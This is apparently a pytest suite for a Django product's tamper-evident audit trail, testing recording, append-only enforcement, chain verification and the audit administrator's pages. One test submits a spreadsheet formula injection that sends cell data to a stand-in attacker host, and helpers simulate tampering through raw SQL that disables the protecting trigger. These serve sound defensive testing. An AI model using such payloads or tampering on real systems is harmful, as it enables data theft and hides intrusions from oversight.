"""The audit trail: what gets recorded, that it cannot be rewritten, and that tampering shows.

Records are written by the product itself (services, sign-in signals); tampering is done the way
an intruder with database access would do it, with raw SQL that bypasses the ORM.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import DatabaseError, connection, transaction
from django.test import Client
from django.utils import translation

from reformtrack.core.models import AuditRecord
from reformtrack.core.models.audit import AppendOnlyError, AuditAction
from reformtrack.core.selectors.audit import history_of, verify_chain
from reformtrack.orgs import services as org_services
from reformtrack.orgs.models import Designation, DesignationKind
from tests.conftest import PASSWORD

EN = {"HTTP_ACCEPT_LANGUAGE": "en"}


@pytest.fixture(autouse=True)
def _default_language(settings):
    """Pages asked for in English leave English active in the thread; start each test in Chinese,
    the product's default, so names written into records do not depend on test order."""
    with translation.override(settings.LANGUAGE_CODE):
        yield


# --- helpers ---------------------------------------------------------------------------------


def sql(statement: str, *params) -> None:
    """Runs raw SQL, as someone editing the database behind the product's back would. On
    PostgreSQL that someone is the table owner, who first disables the append-only trigger."""
    with connection.cursor() as cursor:
        if connection.vendor == "postgresql":
            cursor.execute("ALTER TABLE core_auditrecord DISABLE TRIGGER USER")
        cursor.execute(statement, params)


def last_seq() -> int:
    return AuditRecord.objects.order_by("-seq").values_list("seq", flat=True).first()


def newest(**filters) -> AuditRecord:
    return AuditRecord.objects.filter(**filters).order_by("-seq").first()


def run_verify(*args) -> str:
    """`reformtrack audit verify`, in English so that messages can be matched."""
    out = io.StringIO()
    with translation.override("en"):
        call_command("audit", "verify", *args, stdout=out)
    return out.getvalue()


def csv_rows(response) -> tuple[bytes, list[list[str]]]:
    raw = b"".join(response.streaming_content)
    return raw, list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


@pytest.fixture
def double_hundred(db):
    return DesignationKind.objects.get(code="DOUBLE_HUNDRED")


@pytest.fixture
def chain(tree):
    """The trail the tree's creation wrote, by its length."""
    count = AuditRecord.objects.count()
    assert count >= 7
    return count


# --- tracked models: before and after values ----------------------------------------------


def test_creating_an_organisation_records_its_values(tree):
    """A new organisation appears in the trail with the values it was created with."""
    org = org_services.create_organisation(
        user=None, parent=tree["GROUP-A"], code="A-NEW", name_zh="甲新公司", kind="subsidiary"
    )
    (entry,) = history_of(org)
    assert entry.action == AuditAction.CREATE
    assert entry.object_type == "orgs.organisation"
    assert entry.object_repr == "甲新公司"
    after = entry.changes["after"]
    assert after["code"] == "A-NEW"
    assert after["name_zh"] == "甲新公司"
    assert after["parent"] == "GROUP-A"
    assert after["level"] == 2


def test_changing_an_organisation_records_before_and_after(tree):
    """Renaming an organisation leaves a record of the old and the new name, nothing else."""
    org_services.update_organisation(
        user=None, organisation=tree["A-SUB"], name_zh="甲子公司（改制）", name_en="A Sub"
    )
    entry = history_of(tree["A-SUB"]).first()
    assert entry.action == AuditAction.UPDATE
    assert entry.changes == {
        "name_en": {"before": "", "after": "A Sub"},
        "name_zh": {"before": "甲子公司", "after": "甲子公司（改制）"},
    }


def test_saving_an_unchanged_organisation_records_nothing(tree):
    """Saving without a change does not clutter the history."""
    before = AuditRecord.objects.count()
    org_services.update_organisation(user=None, organisation=tree["A-SUB"], name_zh="甲子公司")
    assert AuditRecord.objects.count() == before


def test_designation_lifecycle_is_recorded(tree, double_hundred):
    """Adding, changing and removing a designation each leave a record with the values."""
    designation = org_services.add_designation(
        user=None, organisation=tree["A-SUB"], kind=double_hundred, valid_from=dt.date(2021, 1, 1)
    )
    pk = designation.pk
    created = history_of(designation).get()
    assert created.action == AuditAction.CREATE
    assert created.changes["after"]["valid_from"] == "2021-01-01"
    assert created.changes["after"]["organisation_id"] == tree["A-SUB"].pk
    assert created.changes["after"]["valid_to"] is None

    org_services.update_designation(
        user=None, designation=designation, valid_to=dt.date(2023, 12, 31), batch="第二批"
    )
    changed = history_of(designation).first()
    assert changed.action == AuditAction.UPDATE
    assert changed.changes == {
        "batch": {"before": "", "after": "第二批"},
        "valid_to": {"before": None, "after": "2023-12-31"},
    }

    org_services.delete_designation(user=None, designation=designation)
    assert not Designation.objects.filter(pk=pk).exists()
    removed = newest(object_type="orgs.designation", object_id=str(pk))
    assert removed.action == AuditAction.DELETE
    assert removed.changes["before"]["valid_to"] == "2023-12-31"
    assert removed.changes["before"]["batch"] == "第二批"
    assert removed.object_repr == "甲子公司: 双百企业"


def test_changes_made_on_a_page_name_the_user_and_address(tree, people, double_hundred):
    """A designation removed through the web is recorded with who removed it and from where."""
    designation = Designation.objects.create(
        organisation=tree["A-SUB"], kind=double_hundred, valid_from=dt.date(2021, 1, 1)
    )
    client = Client(REMOTE_ADDR="192.0.2.15")
    client.force_login(people["supervisor_admin"])
    response = client.post(f"/designations/{designation.pk}/delete/")
    assert response.status_code == 302
    entry = newest(action=AuditAction.DELETE, object_type="orgs.designation")
    assert entry.object_id == str(designation.pk)
    assert entry.actor_username == "sup"
    assert entry.actor_id == people["supervisor_admin"].pk
    assert entry.ip == "192.0.2.15"


def test_audit_records_cannot_be_saved_again_or_deleted(chain):
    """An audit record, once written, refuses to be changed or deleted through the model."""
    entry = AuditRecord.objects.order_by("seq").first()
    entry.object_repr = "rewritten"
    with pytest.raises(AppendOnlyError):
        entry.save()
    with pytest.raises(AppendOnlyError):
        entry.delete()
    assert AuditRecord.objects.get(seq=1).object_repr != "rewritten"
    assert AuditRecord.objects.count() == chain
    assert verify_chain().ok


def test_audit_records_cannot_be_bulk_updated_or_deleted(chain):
    """Bulk ORM calls (queryset update/delete) are refused too, not just per-record saves."""
    with pytest.raises(AppendOnlyError):
        AuditRecord.objects.filter(seq=1).update(object_repr="rewritten")
    with pytest.raises(AppendOnlyError):
        AuditRecord.objects.filter(seq=chain).delete()
    assert AuditRecord.objects.count() == chain
    assert verify_chain().ok


# --- sign-in events -------------------------------------------------------------------------


def test_sign_in_is_recorded_with_user_and_address(people):
    """Signing in with a real password leaves a 'login' record naming the user and address."""
    client = Client()
    response = client.post(
        "/accounts/login/",
        {"username": "contrib_a", "password": PASSWORD},
        REMOTE_ADDR="10.20.30.40",
    )
    assert response.status_code == 302
    entry = newest(action=AuditAction.LOGIN)
    assert entry.actor_username == "contrib_a"
    assert entry.actor_id == people["contributor"].pk
    assert entry.ip == "10.20.30.40"
    assert entry.object_id == str(people["contributor"].pk)


def test_sign_out_is_recorded_with_user_and_address(people):
    """Signing out leaves a 'logout' record naming the user and address."""
    client = Client()
    client.post(
        "/accounts/login/",
        {"username": "contrib_a", "password": PASSWORD},
        REMOTE_ADDR="10.20.30.40",
    )
    response = client.post("/accounts/logout/", REMOTE_ADDR="10.20.30.41")
    assert response.status_code == 302
    entry = newest(action=AuditAction.LOGOUT)
    assert entry.actor_username == "contrib_a"
    assert entry.ip == "10.20.30.41"
    assert client.get("/").status_code == 302  # really signed out


def test_failed_sign_in_is_recorded_with_user_name_and_address(people):
    """A wrong password is refused and recorded with the name tried and the address."""
    client = Client()
    response = client.post(
        "/accounts/login/",
        {"username": "contrib_a", "password": "Wrong#Pass2026"},
        REMOTE_ADDR="203.0.113.9",
    )
    assert response.status_code == 200  # the form again, not signed in
    entry = newest(action=AuditAction.LOGIN_FAILED)
    assert entry.actor_username == "contrib_a"
    assert entry.object_repr == "contrib_a"
    assert entry.actor_id is None
    assert entry.ip == "203.0.113.9"
    assert "Wrong#Pass2026" not in json.dumps(entry.changes)
    assert not AuditRecord.objects.filter(
        action=AuditAction.LOGIN, actor_username="contrib_a"
    ).exists()


def test_sign_in_from_an_ipv6_address_keeps_the_chain_intact(people):
    """Signing in over IPv6 is recorded and does not make the trail look tampered with."""
    client = Client()
    client.post(
        "/accounts/login/",
        {"username": "contrib_a", "password": PASSWORD},
        REMOTE_ADDR="2001:DB8:0:0:0:0:0:1",
    )
    entry = newest(action=AuditAction.LOGIN)
    assert entry.actor_username == "contrib_a"
    assert entry.ip is not None
    report = verify_chain()
    assert report.ok, report.reason


# --- verifying the chain --------------------------------------------------------------------


def test_verify_command_reports_an_intact_chain(chain):
    """`reformtrack audit verify` says OK and how many records it checked."""
    assert run_verify().strip() == f"OK: {chain} records, chain intact."


def test_verify_command_json_on_an_intact_chain(chain):
    """`audit verify --json` gives a machine-readable OK."""
    report = json.loads(run_verify("--json"))
    assert report == {
        "ok": True,
        "checked": chain,
        "first_bad_seq": None,
        "reason": "",
        "damage": "",
        "anchor_seq": None,  # the first verify: no checkpoint yet to compare with
    }


@pytest.mark.skipif(connection.vendor != "postgresql", reason="the trigger is PostgreSQL's")
@pytest.mark.parametrize(
    "statement",
    [
        "UPDATE core_auditrecord SET object_repr = 'rewritten' WHERE seq = 2",
        "DELETE FROM core_auditrecord WHERE seq = 2",
    ],
)
def test_postgresql_itself_refuses_to_change_audit_records(chain, statement):
    """Not only the ORM: any client's UPDATE or DELETE of an audit record fails in the database."""
    with (
        pytest.raises(DatabaseError, match="append-only"),
        transaction.atomic(),
        connection.cursor() as cursor,
    ):
        cursor.execute(statement)
    assert verify_chain().ok


def test_verify_names_a_record_altered_in_the_database(chain):
    """Editing one record's text with raw SQL is caught, naming that record."""
    sql("UPDATE core_auditrecord SET object_repr = %s WHERE seq = %s", "无害的记录", 3)
    with pytest.raises(CommandError, match=r"broken at record 3: record 3 was altered"):
        run_verify()

    report = verify_chain()
    assert not report.ok
    assert report.first_bad_seq == 3
    assert report.checked == 2


def test_verify_json_names_the_altered_record(chain):
    """With --json the broken state is printed as data before the command fails."""
    sql("UPDATE core_auditrecord SET actor_username = %s WHERE seq = %s", "somebody", 5)
    out = io.StringIO()
    with pytest.raises(CommandError, match=r"record 5"), translation.override("en"):
        call_command("audit", "verify", "--json", stdout=out)
    report = json.loads(out.getvalue())
    assert report["ok"] is False
    assert report["first_bad_seq"] == 5


def test_verify_names_a_record_deleted_from_the_middle(chain):
    """Deleting a record in the middle with raw SQL is caught, naming the missing record."""
    sql("DELETE FROM core_auditrecord WHERE seq = %s", 4)
    with pytest.raises(CommandError, match=r"broken at record 4: record 4 is missing"):
        run_verify()
    assert verify_chain().first_bad_seq == 4


def test_verify_detects_the_last_record_deleted(chain):
    """Deleting the newest record is caught: the chain head still remembers it."""
    sql("DELETE FROM core_auditrecord WHERE seq = %s", chain)
    with pytest.raises(CommandError, match=rf"broken at record {chain}: .*removed"):
        run_verify()
    report = verify_chain()
    assert not report.ok
    assert report.first_bad_seq == chain
    assert report.checked == chain - 1


def test_verify_detects_a_relinked_record(chain):
    """A record re-pointed at a different predecessor is caught, naming it."""
    sql("UPDATE core_auditrecord SET prev_hash = %s WHERE seq = %s", "f" * 64, 2)
    report = verify_chain()
    assert not report.ok
    assert report.first_bad_seq == 2


def test_list_command_prints_the_newest_records(people):
    """`reformtrack audit list --json` gives the newest records first, as many as asked."""
    Client().post("/accounts/login/", {"username": "viewer_a", "password": "nope"})
    out = io.StringIO()
    call_command("audit", "list", "--limit", "3", "--json", stdout=out)
    rows = json.loads(out.getvalue())
    assert [row["seq"] for row in rows] == [last_seq(), last_seq() - 1, last_seq() - 2]
    assert rows[0]["action"] == "login_failed"
    assert rows[0]["actor_username"] == "viewer_a"


# --- the audit administrator's pages --------------------------------------------------------


def test_audit_log_lists_and_filters_records(people, client_for):
    """The audit administrator sees the log and can narrow it to sign-ins."""
    Client().post(
        "/accounts/login/",
        {"username": "office_a", "password": PASSWORD},
        REMOTE_ADDR="10.0.0.7",
    )
    client = client_for(people["audit"])
    everything = client.get("/audit/", **EN)
    assert everything.status_code == 200
    assert "甲集团" in everything.content.decode()

    response = client.get("/audit/", {"action": "login"}, **EN)
    assert response.status_code == 200
    shown = [row.record for row in response.context["table"].paginated_rows]
    assert shown
    assert {entry.action for entry in shown} == {"login"}
    html = response.content.decode()
    assert "office_a" in html
    assert "10.0.0.7" in html
    assert "甲集团" not in html


def test_audit_log_filters_by_user(people, client_for):
    """Filtering by user name leaves only that user's records."""
    Client().post("/accounts/login/", {"username": "office_a", "password": "nope"})
    response = client_for(people["audit"]).get("/audit/", {"user": "office_a"})
    shown = [row.record for row in response.context["table"].paginated_rows]
    assert shown
    assert {entry.actor_username for entry in shown} == {"office_a"}


def test_audit_export_is_csv_with_bom_and_chinese_text(people, client_for):
    """The CSV export opens in Excel with Chinese names intact (UTF-8 with a BOM)."""
    response = client_for(people["audit"]).get(
        "/audit/export.csv", {"object_type": "orgs.organisation", "action": "create"}
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "audit.csv" in response["Content-Disposition"]
    raw, rows = csv_rows(response)
    assert raw.startswith(b"\xef\xbb\xbf")
    header, *data = rows
    assert len(header) == 12
    names = {row[7] for row in data}
    assert {"国资委", "甲集团", "甲子公司", "乙子公司"} <= names
    assert all(row[4] == "create" for row in data)
    assert len(data) == 7  # the seven organisations of the tree


def test_audit_export_defuses_spreadsheet_formulas(people, client_for):
    """A name typed into the sign-in form cannot become a live formula in the auditor's Excel."""
    typed = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
    Client().post("/accounts/login/", {"username": typed, "password": "x"}, REMOTE_ADDR="10.0.0.9")
    response = client_for(people["audit"]).get("/audit/export.csv", {"action": "login_failed"})
    _raw, rows = csv_rows(response)
    cells = [cell for row in rows[1:] for cell in row]
    assert any("HYPERLINK" in cell and "点此查看" in cell for cell in cells)  # still exported
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


def test_audit_verify_page_shows_intact_then_broken(people, client_for):
    """The verify page says the chain is intact, and names the record once it was altered."""
    client = client_for(people["audit"])
    response = client.get("/audit/verify/", **EN)
    assert response.status_code == 200
    assert response.context["report"].ok
    assert "Intact" in response.content.decode()

    sql("UPDATE core_auditrecord SET ip = %s WHERE seq = %s", "198.51.100.1", 2)
    response = client.get("/audit/verify/", **EN)
    html = response.content.decode()
    assert not response.context["report"].ok
    assert "Broken at record 2." in html
    assert "record 2 was altered" in html


@pytest.mark.parametrize(
    "who",
    [
        "supervisor_admin",
        "reform_office",
        "contributor",
        "viewer",
        "outsider",
        "system",
        "security",
    ],  # fmt: skip
)
@pytest.mark.parametrize("url", ["/audit/", "/audit/export.csv", "/audit/verify/"])
def test_only_the_audit_administrator_reaches_audit_pages(people, client_for, who, url):
    """Business users and the other two administrators are refused the audit pages."""
    assert client_for(people[who]).get(url).status_code == 403


def test_audit_pages_send_anonymous_visitors_to_sign_in(db):
    """Someone not signed in is sent to the sign-in page."""
    response = Client().get("/audit/")
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")


# --- history on the organisation page -------------------------------------------------------


def history_rows(html: str) -> list[str]:
    """The rows of the page's History table, as text."""
    section = html.split("<h2>History</h2>", 1)[1]
    return re.findall(r"<tr>(.*?)</tr>", section, flags=re.S)


def test_organisation_page_shows_a_move_in_its_history(tree, people, client_for):
    """After a move the organisation's page lists it with the old and new parent codes."""
    org_services.move_organisation(
        user=people["supervisor_admin"], organisation=tree["A-SUB"], new_parent=tree["GROUP-B"]
    )
    response = client_for(people["supervisor_admin"]).get(f"/orgs/{tree['A-SUB'].pk}/", **EN)
    assert response.status_code == 200
    moves = [row for row in history_rows(response.content.decode()) if "Moved" in row]
    assert len(moves) == 1
    assert "GROUP-A" in moves[0]
    assert "GROUP-B" in moves[0]
    move = history_of(tree["A-SUB"]).first()
    assert move.changes == {"parent": {"before": "GROUP-A", "after": "GROUP-B"}}


def test_organisation_page_history_names_who_changed_it(tree, people, client_for):
    """A move made on the move page shows in the history with the user who made it."""
    client = client_for(people["supervisor_admin"])
    response = client.post(f"/orgs/{tree['A-SUB'].pk}/move/", {"parent_code": "GROUP-B"})
    assert response.status_code == 302
    response = client.get(f"/orgs/{tree['A-SUB'].pk}/", **EN)
    moves = [row for row in history_rows(response.content.decode()) if "Moved" in row]
    assert len(moves) == 1
    assert "sup" in moves[0]
    assert "GROUP-A" in moves[0] and "GROUP-B" in moves[0]


def test_a_decimal_saved_as_the_value_it_holds_is_no_change(programme):
    """A percent of 0 saved over 0.00 is the same value: the task's history showed "0 → 0"."""
    from decimal import Decimal

    from reformtrack.programs.models import LedgerTask

    task = LedgerTask.objects.filter(programme=programme).first()
    task.refresh_from_db()
    before = task.percent
    task.percent = Decimal(int(before)) if before == int(before) else before.normalize()
    task.title = task.title + "（改）"
    task.save()
    entry = history_of(task).first()
    assert "title" in entry.changes and "percent" not in entry.changes


def test_a_history_names_the_operators_changes_as_the_systems(tree, people, client_for):
    """Changes made by commands (no user) read as the system's in the reader's language."""
    from reformtrack.core.context import Actor, acting

    with acting(Actor(username="system:root")):
        org_services.update_organisation(
            user=None, organisation=tree["A-SUB"], name_zh="甲子公司（改制）"
        )
    client = client_for(people["supervisor_admin"])
    chinese = client.get(f"/orgs/{tree['A-SUB'].pk}/").content.decode()
    english = client.get(f"/orgs/{tree['A-SUB'].pk}/", **EN).content.decode()
    assert "系统（root）" in chinese and "System (root)" in english
    assert "system:root" not in chinese
